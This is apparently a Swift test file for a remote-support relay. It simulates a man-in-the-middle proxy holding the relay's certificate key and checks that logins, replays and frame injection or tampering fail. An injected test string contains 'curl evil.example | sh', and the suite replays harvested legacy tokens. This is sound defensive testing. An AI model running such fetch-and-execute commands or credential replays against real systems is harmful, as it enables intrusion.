import Crypto
import Foundation
import NIOCore
import NIOPosix
import NIOSSL
import RelayStore
import RelayTestSupport
import RelayWire
import Synchronization
import Testing

@testable import RelayClient
@testable import RelayServer

/// Issue 12's outside attack, repeated from the outside against the real `relay-agent`
/// binaries: "an attacker holding the relay's own certificate key" puts a proxy in front of
/// the relay. The proxy ends the agents' TLS with the relay's certificate (so the agents,
/// which check `--ca`, accept it), opens TLS of its own to the relay, and forwards bytes
/// both ways, reading every frame (PROTOCOL.md §2) in both directions; it can write frames
/// of its own into the stream at a frame boundary.
///
/// Done when (issue 12): the attack "sees only ciphertext, harvests no credential that logs
/// in, and its injected frame ends the session instead of reaching the customer". The
/// documented limits (docs/SECURITY.md §3.4, §8.4): a legacy token or host secret that
/// passes through the proxy does log in, and a support code is seen but spent.
@Suite(.serialized, .timeLimit(.minutes(2))) struct OutsideAttackTests {
    typealias Agents = AgentEndToEndEncryptionTests
    typealias Folder = AgentEndToEndEncryptionTests.Folder
    typealias Pattern = RelayMemoryTests.Pattern

    /// A relay whose throttle does not get in the way: the attack makes more failed logins
    /// from 127.0.0.1 than the 5 free ones (OPERATIONS.md §6 "Throttling"), and these tests
    /// want the relay to judge each credential, not to answer `rate_limited` without
    /// checking it.
    static func withRelay(_ body: (TestRelay, String) async throws -> Void) async throws {
        try await TestRelay.with({ $0.sourcePenalties.freeFailures = 1_000 }) { relay in
            let caFile = FileManager.default.temporaryDirectory.appendingPathComponent("relay-ca-\(UUID().uuidString).pem").path
            try relay.authority.certificatePEM.write(toFile: caFile, atomically: true, encoding: .utf8)
            defer { try? FileManager.default.removeItem(atPath: caFile) }
            try await body(relay, caFile)
        }
    }

    /// Unique per run, so that a hit can only come from this run.
    static func unique() -> String { UUID().uuidString.lowercased().replacingOccurrences(of: "-", with: "") }

    // MARK: - 1. Key logins: nothing the proxy sees logs in

    /// Engineers and enrolled hosts log in with their keys (PROTOCOL.md §1.2). Through the
    /// proxy every key login fails, whether the proxy presents no client certificate or one
    /// of its own key, and the agents say why; the proxy saw each agent's public key (the
    /// agents present it to whoever asks), and the login bytes it recorded, sent again on a
    /// fresh connection to the relay with or without the proxy's own certificate, log no one in.
    @Test(arguments: [false, true])
    func keyLoginsThroughTheProxyFailAndWhatItRecordedLogsNoOneIn(proxyPresentsItsOwnKey: Bool) async throws {
        try await Self.withRelay { relay, caFile in
            let engineerConfig = Folder()
            let engineerKey = try Agents.engineer(relay, in: engineerConfig, login: "kim.minji.key")
            let hostConfig = Folder()
            try Agents.hostKey(relay, in: hostConfig)
            let hostKey = try ConfigFolder(path: "\(hostConfig.path)/\(ConfigFolder.name)").hostKey(hostID: relay.acme.hostID).key
            let engineerPrivateKey = try ConfigFolder(path: "\(engineerConfig.path)/\(ConfigFolder.name)").engineerKey().key
            let proxyKey = Curve25519.Signing.PrivateKey()

            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: proxyPresentsItsOwnKey ? proxyKey : nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                let trust = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                // What the relay answers a key login that reaches it without the agent's key
                // (PROTOCOL.md §5.1.3, §5.1.4; OPERATIONS.md §1 "Firewall"). With the proxy's
                // own key the agent is told that key's fingerprint, not its own.
                // The agent, which knows its own key, then says a middlebox presented its own.
                let refusal =
                    proxyPresentsItsOwnKey
                    ? "presents a key of its own" : "a key login needs the agent's key as its TLS client certificate, and none arrived"

                // Attended: the engineer asks for a support code.
                let (attended, attendedOutput) = try Agents.agent(
                    ["view"] + trust + ["--new-code", "--duration", "2"], config: engineerConfig, environment: [:])
                defer { if attended.isRunning { attended.terminate() } }
                try await Agents.waitForExit(attended, attendedOutput)
                #expect(attended.terminationStatus != 0, "the viewer got in through the proxy: \(attendedOutput())")
                #expect(!attendedOutput().contains("Support code:"), "the relay issued a code to a login the proxy passed on: \(attendedOutput())")
                #expect(attendedOutput().contains("authentication_failed") && attendedOutput().contains(refusal), "\(attendedOutput())")

                // Unattended: the enrolled host tries to register, and the engineer to connect to it.
                let (host, hostOutput) = try Agents.agent(
                    ["host"] + trust + ["--host-id", relay.acme.hostID, "--once", "--any-engineer", "--source", "synthetic:scrolling-text"],
                    config: hostConfig, environment: [:])
                defer { if host.isRunning { host.terminate() } }
                try await Agents.waitForExit(host, hostOutput)
                #expect(host.terminationStatus != 0, "the host got in through the proxy: \(hostOutput())")
                #expect(!hostOutput().contains("Registered"), "\(hostOutput())")
                #expect(hostOutput().contains("authentication_failed") && hostOutput().contains(refusal), "\(hostOutput())")

                let (unattended, unattendedOutput) = try Agents.agent(
                    ["view"] + trust + ["--host", relay.acme.hostID, "--duration", "2"], config: engineerConfig, environment: [:])
                defer { if unattended.isRunning { unattended.terminate() } }
                try await Agents.waitForExit(unattended, unattendedOutput)
                #expect(unattended.terminationStatus != 0, "\(unattendedOutput())")
                #expect(!unattendedOutput().contains("Connected to"), "\(unattendedOutput())")
                #expect(unattendedOutput().contains("authentication_failed") && unattendedOutput().contains(refusal), "\(unattendedOutput())")

                // What the proxy saw: three logins, each agent presenting its key to it as it
                // would to the relay, and the relay answering each with HelloAck and
                // Error(authentication_failed), nothing more.
                let connections = proxy.connections
                #expect(connections.map(\.role) == ["viewer", "host", "viewer"], "\(connections.map(\.summary))")
                for connection in connections {
                    let expected = connection.role == "host" ? hostKey.publicKey : engineerKey
                    #expect(connection.agentKey == Array(expected.rawRepresentation), "the agent did not present its key to the proxy: \(connection.summary)")
                    #expect(connection.frames(.toAgent).map(\.type) == [0x02, 0x0B], "\(connection.summary)")
                    #expect(connection.frames(.toAgent).last.flatMap(ErrorFrame.init)?.code == 5, "\(connection.summary)")
                    #expect(connection.frames(.fromAgent).contains { [0x03, 0x04].contains($0.type) }, "the agent sent no login: \(connection.summary)")
                    // No private key crossed, in any form the proxy could read.
                    for privateKey in [engineerPrivateKey.rawRepresentation, hostKey.rawRepresentation] {
                        #expect(!connection.everything.contains(bytesOf: Array(privateKey)), "a private key crossed the proxy: \(connection.summary)")
                    }
                }

                // The proxy sends what it recorded, byte for byte, on fresh connections of its
                // own: without a client certificate, and with its own key's. Nothing logs in.
                for connection in connections {
                    let login = connection.loginBytes
                    for presenting in [nil, proxyKey] {
                        let answer = try await LoginReplay.send(login, to: relay, presenting: presenting)
                        #expect(answer.map(\.type) == [0x02, 0x0B], "the replayed \(connection.role ?? "?") login got \(answer.map(\.summary))")
                        #expect(answer.last.flatMap(ErrorFrame.init)?.code == 5, "\(answer.map(\.summary))")
                    }
                }
            }
            // The relay's own record: no key login was accepted.
            relay.node.relay.flushAccessLog()
            let log = try relay.store.accessLog(limit: 100)
            #expect(!log.contains { $0.outcome == .accepted }, "the relay accepted a login: \(log)")
            #expect(log.filter { [.engineerKey, .hostKey].contains($0.event) && $0.outcome == .rejected }.count >= 3, "\(log)")
        }
    }

    // MARK: - 2. Sessions the proxy can pass on: only ciphertext

    /// Logins the proxy can pass on to the relay, so that a session runs through it:
    /// legacy accounts (token, host secret) and the attended customer's support code.
    enum PassableLogin: String, CaseIterable, CustomTestStringConvertible, Sendable {
        /// Engineer token (`RELAY_TOKEN`) asking for a code; the customer's host with it.
        case legacyAttended
        /// Engineer token and host secret (`RELAY_HOST_SECRET`), connecting by host id.
        case legacyUnattended
        /// The engineer logs in with a key directly; only the customer's host, which
        /// logs in with the support code, goes through the proxy.
        case keyViewerCustomerThroughProxy

        var testDescription: String { self.rawValue }
    }

    /// A whole session through the proxy, with clipboard text both ways and typed keys. The
    /// proxy sees the session's relay-control frames (and with them a legacy token or
    /// secret, as SECURITY.md §3.4 and §8.4 say), but after Paired every peer frame is the
    /// end-to-end handshake or a Sealed record, and nothing the session carried appears in
    /// anything it recorded. Of what it harvested, a legacy token or secret logs in (the
    /// documented limit), and a support code does not (spent).
    @Test(arguments: PassableLogin.allCases)
    func aSessionThroughTheProxyCarriesOnlySealedRecords(login: PassableLogin) async throws {
        try await Self.withRelay { relay, caFile in
            let viewerClipboard = "engineer clipboard 비밀번호 \(Self.unique())"
            let hostClipboard = "customer clipboard 계좌번호 \(Self.unique())"
            let typed = "typed\(Self.unique().prefix(20))"
            let signedName = "engineer signed name \(Self.unique())"
            let secrets: [Pattern] = [
                .utf8("the engineer's clipboard", viewerClipboard), .utf16("the engineer's clipboard", viewerClipboard),
                .utf8("the customer's clipboard", hostClipboard), .utf16("the customer's clipboard", hostClipboard),
                .utf8("the typed text", typed), .keyFrames("the typed text", typed),
                .utf8("the name the engineer's key signed", signedName),
            ]

            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                let throughProxy = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                let direct = ["--relay", "localhost:\(relay.port)", "--ca", caFile]
                let viewerConfig = Folder()
                let hostConfig = Folder()
                var viewerEnvironment: [String: String] = ["RELAY_TOKEN": relay.acme.engineerToken]
                var hostEnvironment: [String: String] = [:]
                if login == .keyViewerCustomerThroughProxy {
                    try Agents.engineer(relay, in: viewerConfig, login: "kim.minji.key")
                    viewerEnvironment = [:]
                }
                let viewerInput = ["--clipboard", viewerClipboard, "--type", typed, "--name", signedName, "--duration", "4"]
                let hostInput = ["--clipboard", hostClipboard, "--source", "synthetic:scrolling-text", "--fps", "10"]

                let viewer: Process
                let viewerOutput: () -> String
                let host: Process
                let hostOutput: () -> String
                if login == .legacyUnattended {
                    hostEnvironment["RELAY_HOST_SECRET"] = relay.acme.hostSecret
                    (host, hostOutput) = try Agents.agent(
                        ["host"] + throughProxy + ["--host-id", relay.acme.hostID, "--once", "--any-engineer"] + hostInput, config: hostConfig,
                        environment: hostEnvironment)
                    guard await eventually(within: .seconds(20), { hostOutput().contains("Registered") }) else {
                        host.terminate()
                        throw TestFailure("the host did not register through the proxy: \(hostOutput())")
                    }
                    (viewer, viewerOutput) = try Agents.agent(
                        ["view"] + throughProxy + ["--host", relay.acme.hostID] + viewerInput, config: viewerConfig, environment: viewerEnvironment)
                } else {
                    let viewerTrust = login == .keyViewerCustomerThroughProxy ? direct : throughProxy
                    (viewer, viewerOutput) = try Agents.agent(
                        ["view"] + viewerTrust + ["--new-code"] + viewerInput, config: viewerConfig, environment: viewerEnvironment)
                    let code = try await Self.supportCode(viewerOutput)
                    (host, hostOutput) = try Agents.agent(
                        ["host"] + throughProxy + ["--code", code, "--accept", "full"] + hostInput, config: hostConfig, environment: hostEnvironment)
                }
                defer {
                    if viewer.isRunning { viewer.terminate() }
                    if host.isRunning { host.terminate() }
                }

                // The session ran: both clipboards crossed, the keys were typed, the screen came.
                let crossed = await eventually(within: .seconds(20)) {
                    viewerOutput().contains("clipboard from the host: \(hostClipboard)")
                        && hostOutput().contains("clipboard from the engineer: \(viewerClipboard)")
                        && viewerOutput().contains("Sent \(typed.count) typed characters")
                }
                guard crossed else { throw TestFailure("the session did not run through the proxy:\nviewer: \(viewerOutput())\nhost: \(hostOutput())") }
                try await Agents.waitForExit(viewer, viewerOutput)
                try await Agents.waitForExit(host, hostOutput)
                #expect(viewer.terminationStatus == 0 && viewerOutput().contains("Session ended after 4 s."), "\(viewerOutput())")
                #expect(host.terminationStatus == 0, "\(hostOutput())")
                if login == .legacyUnattended {
                    // The proxy stayed out of the end-to-end handshake: the viewer pinned the host's real key.
                    let hostKey = try ConfigFolder(path: "\(hostConfig.path)/\(ConfigFolder.name)").hostKey(hostID: relay.acme.hostID).key.publicKey
                    #expect(viewerOutput().contains("pinned its key \(KeyFingerprint.of(hostKey))"), "\(viewerOutput())")
                } else {
                    // The proxy stayed out of the end-to-end handshake: both sides show the same code.
                    let codes = [viewerOutput(), hostOutput()].map { $0.firstMatch(of: /Security code: (\d{3} \d{3})/)?.output.1 }
                    #expect(codes[0] != nil && codes[0] == codes[1], "the security codes differ: \(codes)")
                }
                if login != .keyViewerCustomerThroughProxy {
                    // The agents warn that their credential is replayable (OPERATIONS.md "Moving accounts to keys").
                    #expect(viewerOutput().contains("Warning: logging in with a token"), "\(viewerOutput())")
                }
                if login == .legacyUnattended {
                    #expect(hostOutput().contains("Warning: logging in with the host secret"), "\(hostOutput())")
                }

                let connections = proxy.connections
                let expectedRoles = login == .keyViewerCustomerThroughProxy ? ["host"] : ["viewer", "host"]
                #expect(Set(connections.compactMap(\.role)) == Set(expectedRoles) && connections.count == expectedRoles.count, "\(connections.map(\.summary))")
                for connection in connections {
                    Self.expectOnlySealedPeerFrames(connection, typed: typed)
                    for secret in secrets {
                        for leg in [ProxyLeg.fromAgent, .toAgent] {
                            #expect(
                                !connection.bytes(leg).contains(bytesOf: secret.bytes),
                                "the proxy read \(secret.label) on the \(connection.role ?? "?")'s connection (\(leg)): the session is not encrypted end to end"
                            )
                        }
                    }
                }

                // The screen crossed the proxy sealed: more Sealed bytes went host → viewer
                // than the viewer counted in screen updates.
                if let host = connections.first(where: { $0.role == "host" }),
                    let received = viewerOutput().firstMatch(of: /Received (\d+) screen updates, (\d+) bytes/)
                {
                    let sealed = host.frames(.fromAgent).filter { $0.type == 0x49 }.reduce(0) { $0 + $1.bytes.count }
                    #expect(Int(received.output.1)! > 0 && sealed > Int(received.output.2)!, "sealed \(sealed) bytes; viewer: \(received.output.0)")
                } else {
                    Issue.record("no host connection, or the viewer printed no totals: \(viewerOutput())")
                }

                // What the proxy harvested. The control data it reads in clear proves that it
                // read inside TLS: a legacy token and a support code are there to be taken.
                if let viewerConnection = connections.first(where: { $0.role == "viewer" }) {
                    #expect(viewerConnection.bytes(.fromAgent).contains(bytesOf: Array(relay.acme.engineerToken.utf8)), "the proxy did not see the token")
                    // The documented limit (SECURITY.md §3.4, §8.4): the token logs in on a
                    // connection of the proxy's own.
                    let token = try #require(viewerConnection.frames(.fromAgent).first { $0.type == 0x04 }.flatMap(Self.token(inViewerAuth:)))
                    let harvested = try await LoginReplay.send(
                        Self.frame(0x01, Array(viewerConnection.frames(.fromAgent)[0].payload))
                            + Self.frame(0x04, Self.str16(token) + [1]),
                        to: relay, presenting: nil)
                    #expect(harvested.map(\.type) == [0x02, 0x05], "the harvested legacy token did not log in: \(harvested.map(\.summary))")
                    // The relay marks such logins as legacy (OPERATIONS.md "Moving accounts to keys").
                    relay.node.relay.flushAccessLog()
                    let log = try relay.store.accessLog(limit: 100)
                    #expect(
                        log.contains { $0.event == .viewerToken && $0.outcome == .accepted && $0.detail?.contains("legacy token login: replayable") == true },
                        "\(log)")
                }
                let hostConnection = try #require(connections.first { $0.role == "host" })
                let hostLogin = try await LoginReplay.send(hostConnection.loginBytes, to: relay, presenting: nil)
                if login == .legacyUnattended {
                    #expect(hostConnection.bytes(.fromAgent).contains(bytesOf: Array(relay.acme.hostSecret.utf8)), "the proxy did not see the host secret")
                    #expect(hostLogin.map(\.type) == [0x02, 0x06], "the harvested host secret did not log in: \(hostLogin.map(\.summary))")
                } else {
                    // Method 3 carries the code in clear; it was spent by the host that sent it.
                    let code = try await Self.supportCode(viewerOutput)
                    #expect(hostConnection.bytes(.fromAgent).contains(bytesOf: Array(code.utf8)), "the proxy did not see the support code")
                    #expect(hostLogin.map(\.type) == [0x02, 0x0B] && hostLogin.last.flatMap(ErrorFrame.init)?.code == 6, "\(hostLogin.map(\.summary))")
                }
            }
        }
    }

    /// PROTOCOL.md §5.3.1 and §5.3.8 as seen from the middle: after Paired, the proxy reads
    /// KeyCommit (33 bytes, viewer → host), KeyShare (66 bytes, each way) and Sealed records
    /// (at least 17 bytes), in that order; no peer message of §5.2 (0x40–0x46) ever crosses
    /// in clear, and only Ping, Pong, Bye and Error of the relay's own.
    private static func expectOnlySealedPeerFrames(_ connection: InterceptedConnection, typed: String) {
        let role = connection.role ?? "?"
        let frames = connection.frames
        guard let paired = frames.firstIndex(where: { $0.leg == .toAgent && $0.type == 0x07 }) else {
            Issue.record("the \(role) was never paired: \(connection.summary)")
            return
        }
        let isPeer: (SeenFrame) -> Bool = { (0x40...0x7F).contains($0.type) }
        #expect(!frames[..<paired].contains(where: isPeer), "a peer frame before Paired: \(connection.summary)")
        let plaintext = frames.filter { (0x40...0x46).contains($0.type) }
        #expect(plaintext.isEmpty, "peer messages crossed in clear on the \(role)'s connection: \(plaintext.map(\.summary))")
        let afterPaired = frames[(paired + 1)...]
        let unexpected = afterPaired.filter { !isPeer($0) && ![0x08, 0x09, 0x0A, 0x0B].contains($0.type) }
        #expect(unexpected.isEmpty, "relay-control frames after Paired: \(unexpected.map(\.summary))")

        // The handshake's shape in each direction, then only Sealed records.
        let sent = afterPaired.filter { $0.leg == .fromAgent && isPeer($0) }
        let received = afterPaired.filter { $0.leg == .toAgent && isPeer($0) }
        let handshake: (sent: [UInt8], received: [UInt8]) = role == "viewer" ? ([0x47, 0x48], [0x48]) : ([0x48], [0x47, 0x48])
        for (frames, expected, direction) in [(sent, handshake.sent, "from"), (received, handshake.received, "to")] {
            #expect(Array(frames.prefix(expected.count).map(\.type)) == expected, "the handshake \(direction) the \(role): \(frames.prefix(4).map(\.summary))")
            #expect(frames.dropFirst(expected.count).allSatisfy { $0.type == 0x49 }, "not only Sealed records \(direction) the \(role)")
            #expect(frames.allSatisfy { $0.type != 0x49 || $0.payload.count >= 17 }, "a Sealed record shorter than 17 bytes")
        }
        for frame in sent + received {
            if frame.type == 0x47 { #expect(frame.payload.count == 33, "KeyCommit of \(frame.payload.count) bytes") }
            if frame.type == 0x48 { #expect(frame.payload.count == 66, "KeyShare of \(frame.payload.count) bytes") }
        }
        // Enough Sealed records for what crossed: from the host its Identity, AccessGranted,
        // ScreenInit, a TileUpdate and its clipboard; from the viewer its Identity, a press and
        // a release per typed key, its clipboard and update requests.
        let sealed = sent.filter { $0.type == 0x49 }.count
        let least = role == "viewer" ? 2 * typed.count + 3 : 5
        #expect(sealed >= least, "only \(sealed) Sealed records from the \(role), fewer than the \(least) the session sent")
    }

    // MARK: - 3. A frame the proxy writes, drops or changes ends the session

    /// What the proxy does to a session between two agents.
    enum Attack: String, CaseIterable, CustomTestStringConvertible, Sendable {
        /// Issue 12's injection: a Clipboard (0x45) in clear toward the customer's PC, once
        /// the session is up.
        case plaintextClipboardToHost
        /// A Sealed record (0x49) of random bytes toward the host, once the session is up.
        case forgedSealedToHost
        /// A Sealed record the viewer sent earlier, sent to the host again once the session is up.
        case replayedSealedToHost
        /// A Clipboard in clear toward the engineer's viewer, once the session is up.
        case plaintextClipboardToViewer
        /// The viewer's first record after its Identity (its clipboard) is dropped; the
        /// next one (an update request) is forwarded.
        case droppedSealedToHost
        /// The viewer's first two records after its Identity are forwarded in swapped order.
        case reorderedSealedToHost
        /// One bit of the viewer's first record after its Identity is flipped.
        case alteredSealedToHost
        /// One bit of the viewer's KeyCommit is flipped (PROTOCOL.md §5.3.2).
        case alteredKeyCommitToHost

        var testDescription: String { self.rawValue }
        var target: String { self == .plaintextClipboardToViewer ? "viewer" : "host" }

        /// What the proxy arms before the agents start; nil for a frame it writes later.
        fileprivate var tampering: Tampering? {
            switch self {
            case .droppedSealedToHost: .dropSealed(index: 1)
            case .reorderedSealedToHost: .swapSealed(index: 1)
            case .alteredSealedToHost: .flipBitInSealed(index: 1)
            case .alteredKeyCommitToHost: .flipBitInKeyCommit
            default: nil
            }
        }

        /// What the target must print (PROTOCOL.md §5.3.8, SECURITY.md §5).
        var expectedError: String {
            switch self {
            case .plaintextClipboardToHost, .plaintextClipboardToViewer: "a plaintext Clipboard arrived in the encrypted session"
            case .alteredKeyCommitToHost: "commitment"
            default: "end-to-end check failed"
            }
        }
    }

    /// An attended session of legacy accounts, both agents through the proxy (so that it
    /// runs). The proxy writes a frame of its own toward one agent once the clipboards have
    /// crossed, or drops, reorders or changes a record from the start. The agent that gets
    /// it ends the session with a clear error and a `Bye(protocol_error)`, shows nothing of
    /// what the proxy wrote or touched, and exits with an error; the other side is told the
    /// session ended (`Bye(peer_left)`) long before its --duration.
    @Test(arguments: Attack.allCases)
    func whatTheProxyInjectsOrChangesEndsTheSession(attack: Attack) async throws {
        try await Self.withRelay { relay, caFile in
            let viewerClipboard = "engineer clipboard \(Self.unique())"
            let hostClipboard = "customer clipboard \(Self.unique())"
            let injectedText = "INJECTED clipboard: curl evil.example | sh \(Self.unique())"
            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                if let tampering = attack.tampering { proxy.arm(tampering, toward: attack.target) }
                let trust = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                let (viewer, viewerOutput) = try Agents.agent(
                    ["view"] + trust + ["--new-code", "--clipboard", viewerClipboard, "--type", "ok", "--duration", "25"], config: Folder(),
                    environment: ["RELAY_TOKEN": relay.acme.engineerToken])
                defer { if viewer.isRunning { viewer.terminate() } }
                let code = try await Self.supportCode(viewerOutput)
                let (host, hostOutput) = try Agents.agent(
                    ["host"] + trust + [
                        "--code", code, "--accept", "full", "--clipboard", hostClipboard, "--source", "synthetic:scrolling-text", "--fps", "10",
                    ],
                    config: Folder(), environment: [:])
                defer { if host.isRunning { host.terminate() } }

                if attack.tampering == nil {
                    let up = await eventually(within: .seconds(20)) {
                        hostOutput().contains("clipboard from the engineer: \(viewerClipboard)")
                            && viewerOutput().contains("clipboard from the host: \(hostClipboard)") && viewerOutput().contains("Sent 2 typed characters")
                    }
                    guard up else { throw TestFailure("the session did not come up through the proxy:\nviewer: \(viewerOutput())\nhost: \(hostOutput())") }
                    let connections = proxy.connections
                    let target = try #require(connections.first { $0.role == attack.target }, "\(connections.map(\.summary))")
                    let other = try #require(connections.first { $0.role != attack.target && $0.role != nil }, "\(connections.map(\.summary))")
                    let frame: [UInt8]
                    switch attack {
                    case .forgedSealedToHost:
                        frame = Self.frame(0x49, (0..<(17 + injectedText.utf8.count)).map { _ in UInt8.random(in: 0...255) })
                    case .replayedSealedToHost:
                        frame = try #require(other.frames(.fromAgent).last(where: { $0.type == 0x49 }), "the viewer sent no Sealed record").bytes
                    default:
                        frame = Self.frame(0x45, Array(injectedText.utf8))
                    }
                    try await proxy.inject(frame, into: target)
                }

                let (targetProcess, targetOutput) = attack.target == "host" ? (host, hostOutput) : (viewer, viewerOutput)
                let (otherProcess, otherOutput) = attack.target == "host" ? (viewer, viewerOutput) : (host, hostOutput)
                try await Agents.waitForExit(targetProcess, targetOutput)
                try await Agents.waitForExit(otherProcess, otherOutput)
                #expect(targetProcess.terminationStatus != 0, "the \(attack.target) went on: \(targetOutput())")
                #expect(targetOutput().contains(attack.expectedError), "the \(attack.target) did not say what failed: \(targetOutput())")
                #expect(!targetOutput().contains(injectedText), "the injected clipboard reached the \(attack.target): \(targetOutput())")
                if attack.tampering != nil {
                    // The record the proxy dropped, held back or changed was the engineer's clipboard.
                    #expect(!hostOutput().contains(viewerClipboard), "the host used a record the proxy touched: \(hostOutput())")
                }
                #expect(!otherOutput().contains("Session ended after 25 s"), "the other side was not told: \(otherOutput())")
                #expect(otherOutput().contains("Session ended"), "\(otherOutput())")

                // On the wire: the target answered with Bye(protocol_error), and the relay told
                // the other side Bye(peer_left) (PROTOCOL.md §5.3.8).
                let connections = proxy.connections
                let target = try #require(connections.first { $0.role == attack.target }, "\(connections.map(\.summary))")
                let other = try #require(connections.first { $0.role != attack.target && $0.role != nil }, "\(connections.map(\.summary))")
                let touched = target.frames.drop(while: { $0.change == nil })
                #expect(!touched.isEmpty, "the proxy did not get to attack: \(target.summary)")
                if attack.tampering != nil, attack != .alteredKeyCommitToHost, let first = touched.first {
                    #expect(first.payload.count == 1 + viewerClipboard.utf8.count + 16, "the touched record is not the clipboard: \(first.summary)")
                }
                let bye = touched.first { $0.leg == .fromAgent && $0.type == 0x0A }
                #expect(bye.flatMap(ErrorFrame.init)?.code == 6, "the \(attack.target) sent no Bye(protocol_error): \(touched.map(\.summary))")
                let told = other.frames(.toAgent).last(where: { $0.type == 0x0A })
                #expect(told.flatMap(ErrorFrame.init)?.code == 2, "the other side got no Bye(peer_left): \(other.frames(.toAgent).suffix(3).map(\.summary))")
            }
        }
    }

    /// An enrolled host (a legacy secret, so that the proxy can pass its login on) whose
    /// session gets issue 12's injected clipboard: the host ends that session with the clear
    /// error, shows nothing of the injected text, registers again (OPERATIONS.md §5:
    /// "registers again after each session or network failure") and serves the next
    /// engineer, whose session through the same proxy runs.
    @Test func anEnrolledHostEndsTheInjectedSessionAndServesTheNextEngineer() async throws {
        try await Self.withRelay { relay, caFile in
            let injectedText = "INJECTED clipboard \(Self.unique())"
            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                let trust = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                let (host, hostOutput) = try await Self.enrolledHost(relay, trust: trust, once: false)
                defer { if host.isRunning { host.terminate() } }
                let viewerConfig = Folder()
                let viewerClipboard = "engineer clipboard \(Self.unique())"
                let (first, firstOutput) = try Agents.agent(
                    ["view"] + trust + ["--host", relay.acme.hostID, "--clipboard", viewerClipboard, "--duration", "20"], config: viewerConfig,
                    environment: ["RELAY_TOKEN": relay.acme.engineerToken])
                defer { if first.isRunning { first.terminate() } }
                guard await eventually(within: .seconds(20), { hostOutput().contains("clipboard from the engineer: \(viewerClipboard)") }) else {
                    throw TestFailure("the session did not come up through the proxy:\nviewer: \(firstOutput())\nhost: \(hostOutput())")
                }
                let target = try #require(proxy.connections.last { $0.role == "host" })
                try await proxy.inject(Self.frame(0x45, Array(injectedText.utf8)), into: target)
                try await Agents.waitForExit(first, firstOutput)
                #expect(!firstOutput().contains("Session ended after 20 s"), "the engineer was not told: \(firstOutput())")
                let again = await eventually(within: .seconds(20)) { hostOutput().components(separatedBy: "Registered with the relay").count == 3 }
                #expect(again, "the host did not register again: \(hostOutput())")
                #expect(hostOutput().contains("a plaintext Clipboard arrived in the encrypted session"), "\(hostOutput())")
                #expect(!hostOutput().contains(injectedText), "the injected clipboard reached the customer's PC: \(hostOutput())")

                let (second, secondOutput) = try Agents.agent(
                    ["view"] + trust + ["--host", relay.acme.hostID, "--duration", "2"], config: viewerConfig,
                    environment: ["RELAY_TOKEN": relay.acme.engineerToken])
                defer { if second.isRunning { second.terminate() } }
                try await Agents.waitForExit(second, secondOutput)
                #expect(second.terminationStatus == 0 && secondOutput().contains("matches the one pinned"), "\(secondOutput())")
                #expect(secondOutput().firstMatch(of: /Received [1-9]\d* screen updates/) != nil, "\(secondOutput())")
            }
        }
    }

    /// `relay-agent host --once` says "exit after one session instead of registering again"
    /// (`relay-agent host --help`), also after a session that ended on an injected frame
    /// (found by this suite: it used to register again).
    @Test func anEnrolledHostWithOnceExitsAfterTheInjectedSession() async throws {
        try await Self.withRelay { relay, caFile in
            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                let trust = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                let (host, hostOutput) = try await Self.enrolledHost(relay, trust: trust, once: true)
                defer { if host.isRunning { host.terminate() } }
                let (viewer, viewerOutput) = try Agents.agent(
                    ["view"] + trust + ["--host", relay.acme.hostID, "--clipboard", "engineer clipboard", "--duration", "20"], config: Folder(),
                    environment: ["RELAY_TOKEN": relay.acme.engineerToken])
                defer { if viewer.isRunning { viewer.terminate() } }
                guard await eventually(within: .seconds(20), { hostOutput().contains("clipboard from the engineer") }) else {
                    throw TestFailure("the session did not come up through the proxy:\nviewer: \(viewerOutput())\nhost: \(hostOutput())")
                }
                let target = try #require(proxy.connections.last { $0.role == "host" })
                try await proxy.inject(Self.frame(0x45, Array("INJECTED".utf8)), into: target)
                #expect(await eventually(within: .seconds(10)) { !host.isRunning }, "the --once host went on: \(hostOutput())")
                #expect(!hostOutput().contains("Registering again"), "\(hostOutput())")
                if !host.isRunning { #expect(host.terminationStatus != 0, "\(hostOutput())") }
            }
        }
    }

    /// ACME's enrolled host logging in with its legacy secret, through `trust`, once it has
    /// registered.
    static func enrolledHost(_ relay: TestRelay, trust: [String], once: Bool) async throws -> (Process, () -> String) {
        let (host, hostOutput) = try Agents.agent(
            ["host"] + trust + ["--host-id", relay.acme.hostID, "--any-engineer", "--source", "synthetic:scrolling-text", "--fps", "10"]
                + (once ? ["--once"] : []),
            config: Folder(), environment: ["RELAY_HOST_SECRET": relay.acme.hostSecret])
        guard await eventually(within: .seconds(20), { hostOutput().contains("Registered") }) else {
            host.terminate()
            throw TestFailure("the host did not register through the proxy: \(hostOutput())")
        }
        return (host, hostOutput)
    }

    // MARK: - 4. What the relay says in clear decides nothing that matters

    /// The proxy rewrites Paired's mode, the relay's word (SECURITY.md §3.2: a relay "cannot
    /// skip the customer's question on an attended host by calling the session unattended in
    /// Paired"; the viewer "picks the pin or the SAS by what it asked for"). Toward the
    /// customer's host it says unattended: the host still asks its user, and with no terminal
    /// to ask on refuses, so the engineer sees nothing. Toward the engineer's viewer it says
    /// unattended: the viewer, which asked for a support code, still shows the security
    /// code to compare.
    @Test(arguments: ["host", "viewer"])
    func pairedCallingTheSessionUnattendedSkipsNeitherTheQuestionNorTheSecurityCode(target: String) async throws {
        try await Self.withRelay { relay, caFile in
            let proxy = try await KeyHoldingProxy.start(in: relay, presenting: nil)
            try await withStopping(proxy, stop: { await $0.close() }) { proxy in
                proxy.arm(.rewritePairedMode(2), toward: target)
                let trust = ["--relay", "localhost:\(proxy.port)", "--ca", caFile]
                let (viewer, viewerOutput) = try Agents.agent(
                    ["view"] + trust + ["--new-code", "--duration", target == "host" ? "20" : "3"], config: Folder(),
                    environment: ["RELAY_TOKEN": relay.acme.engineerToken])
                defer { if viewer.isRunning { viewer.terminate() } }
                let code = try await Self.supportCode(viewerOutput)
                // Decided in advance only where the test is about the viewer; standard input is
                // not a terminal.
